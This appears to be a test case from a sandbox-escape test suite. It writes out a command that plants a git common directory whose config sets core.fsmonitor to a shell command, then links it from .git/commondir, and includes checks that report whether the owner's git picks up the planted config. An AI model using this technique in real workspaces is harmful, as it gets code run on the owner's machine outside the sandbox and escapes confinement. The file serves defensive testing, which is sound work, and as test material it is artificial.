# SPDX-License-Identifier: LGPL-2.1-or-later
class=fs-write
what=".git/commondir in the workspace, pointing at a directory with a config of the agent's (core.fsmonitor: run by the owner's next git status)"
# A common directory git accepts (objects, refs, a config), and the link to it from .git.
cmd='mkdir -p .esc-19/objects .esc-19/refs && printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"echo pwned > .esc-19-pwned; :\"\n" > .esc-19/config && echo ../.esc-19 > .git/commondir && cat .git/commondir'
setup() { [ -d "$ESC_WS/.git" ] || runuser -u alice -- git init -q "$ESC_WS"; }
# Escaped: the owner's git, outside the sandbox, takes its config from the planted directory
# (asked with git config, which runs nothing), or .git/commondir is there at all.
happened() {
        local v
        v=$(cd / && runuser -u alice -- git -C "$ESC_WS" config --get core.fsmonitor 2>/dev/null)
        echo "the owner's git reads core.fsmonitor='$v'; .git/commondir: $([ -e "$ESC_WS/.git/commondir" ] && echo there || echo absent)"
        [[ $v == *esc-19-pwned* ]] || [ -e "$ESC_WS/.git/commondir" ] || [ -L "$ESC_WS/.git/commondir" ]
}
cleanup() { rm -rf "$ESC_WS/.git/commondir" "$ESC_WS/.esc-19" "$ESC_WS/.esc-19-pwned"; }
